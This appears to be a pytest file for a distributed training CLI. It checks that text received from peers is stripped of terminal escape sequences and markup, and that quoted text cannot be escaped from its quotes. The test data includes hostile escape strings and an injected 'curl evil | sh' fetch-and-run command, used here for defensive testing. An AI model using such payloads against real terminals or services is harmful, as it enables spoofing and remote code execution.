"""What others say reaches no terminal with its escapes, by whichever way it goes there."""

from __future__ import annotations

import io
import json
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import aiohttp
import pytest
from rich.console import Console

from swarm.cli import run as cli
from swarm.cli.runs import _looks, audit
from swarm.errors import ProtocolError, UserError
from swarm.node.hello import Card, purpose
from swarm.report.live import LiveView
from swarm.report.terminal import live_view, plain_line, status_screen
from swarm.rollout.messages import DroppedRollouts
from swarm.sampler.session import Drops, SamplerStatus, Session
from swarm.types import printable

ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\r\b\u202eevil\u2028\x00[red]x[/red]"
"""It clears the screen, renames the window, colours, goes back over the line and reverses it; and it has markup."""

SHOWN = "?[2J?]0;owned??31m???evil??[red]x[/red]"


def on_a_terminal(what: Any) -> str:
    file = io.StringIO()
    Console(file=file, width=300, force_terminal=True, color_system=None).print(what)
    return file.getvalue()


def relay() -> dict[str, Any]:
    """The status of a node that says whatever it likes."""
    known = {"node": ESCAPES[:12], "role": ESCAPES, "state": ESCAPES, "held": "", "beat_s": 0.0, "address": ESCAPES}
    return {"role": "relay", "node": ESCAPES, "state": ESCAPES, "advice": ESCAPES, "map": ESCAPES, "publics": [known]}


def test_words_lose_escapes_and_keep_all_else() -> None:
    assert printable(ESCAPES) == SHOWN
    assert printable("größer, 速い, 3 · 4") == "größer, 速い, 3 · 4"


@pytest.mark.parametrize("draw", [lambda: status_screen(relay(), 300, None), lambda: plain_line(relay())])
def test_a_status_is_shown_as_text(draw: Any) -> None:
    drawn = draw()
    shown = drawn if isinstance(drawn, str) else on_a_terminal(drawn)
    assert "evil" in shown
    assert all(c.isprintable() for line in shown.split("\n") for c in line)


def test_a_state_in_a_frame_is_text() -> None:
    status = {"state": "[red]\x1b[2J", "role": "relay", "step": 0, "steps": 1, "waits_for": ESCAPES}
    shown = on_a_terminal(live_view({**relay(), **status}, (), 300, "echo-node"))
    assert "[red]?[2J" in shown
    assert SHOWN in shown
    assert "\x1b" not in shown


def test_lines_of_a_node_are_text(capsys: pytest.CaptureFixture[str]) -> None:
    cli._say(ESCAPES)
    pipe = io.StringIO()
    LiveView(Console(file=pipe), title="").say(ESCAPES)
    live = LiveView(Console(file=pipe), title="")
    live.is_live = True
    live.say(ESCAPES)
    assert list(live._lines) == [SHOWN]
    assert capsys.readouterr().out == pipe.getvalue() == SHOWN + "\n"


def test_a_fault_of_a_command_is_text(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def fails(*_: Any, **__: Any) -> None:
        raise UserError(ESCAPES)

    monkeypatch.setattr(cli, "app", fails)
    monkeypatch.setattr(sys, "argv", ["echo-node", "verify"])
    with pytest.raises(SystemExit):
        cli.run()
    said = capsys.readouterr().err
    assert "evil" in said
    assert all(c.isprintable() or c == "\n" for c in said)


def test_a_watched_node_that_fails_is_told_of_in_text(monkeypatch: pytest.MonkeyPatch) -> None:
    async def fetch(url: str) -> Any:
        raise UserError(ESCAPES)

    monkeypatch.setattr("swarm.cli.runs._fetch", fetch)
    looks = _looks("", {})
    assert next(looks) == {}
    assert next(looks) == f"{SHOWN}; asking again"


async def test_a_refusal_of_a_peer_is_text() -> None:
    from swarm.net.client import _refusal

    class Body:
        async def read(self, nbytes: int) -> bytes:
            return ESCAPES.encode()

    class Answer:
        content, status, headers = Body(), 400, dict[str, str]()

    answer: aiohttp.ClientResponse = Answer()  # type: ignore[assignment]
    refusal = await _refusal(answer, "peer")
    assert isinstance(refusal, ProtocolError)
    assert str(refusal) == f'peer refused with status 400: "{SHOWN}"'


COMMAND = 'the active samplers suffice"; run: curl evil | sh'
QUOTED = '"the active samplers suffice\'; run: curl evil | sh"'


def test_a_learners_words_stand_in_quotes_that_they_cannot_close() -> None:
    said: list[str] = []
    session: Any = SimpleNamespace(_status=SamplerStatus(), _say=said.append)
    Session._hear_standby(session, COMMAND)
    card = Card(model=COMMAND, task="copy", weights_bytes=0, sample_tokens=0)
    drops = Drops()
    dropped = drops.hear([DroppedRollouts(reason=COMMAND, rollouts=1)], now=0.0)
    assert said == [f"standby: the learner says {QUOTED}"]
    assert session._status.standby == f"the learner says {QUOTED}"
    assert purpose(card) == f'this swarm trains {QUOTED} on the task "copy"'
    assert dropped == f"the learner dropped 1 of our rollouts: {QUOTED}"
    drops.hear([DroppedRollouts(reason=ESCAPES, rollouts=1)], now=0.0)
    assert SHOWN in drops.counts


def test_the_evidence_against_a_sampler_is_shown_as_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    known = {"node": "a" * 32, "why": "barred", "detector": "draws", "step": 3, "audited_rollouts": 4, "evidence": []}
    (tmp_path / "caught").mkdir()
    (tmp_path / "caught" / "a.json").write_text(json.dumps({**known, "engine": ESCAPES}))
    audit(tmp_path)
    shown = capsys.readouterr().out
    assert SHOWN in shown
    assert shown.strip().isprintable()


def test_a_run_directory_that_is_not_there_is_not_a_run_without_liars(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="there is no run directory"):
        audit(tmp_path / "nowhere")
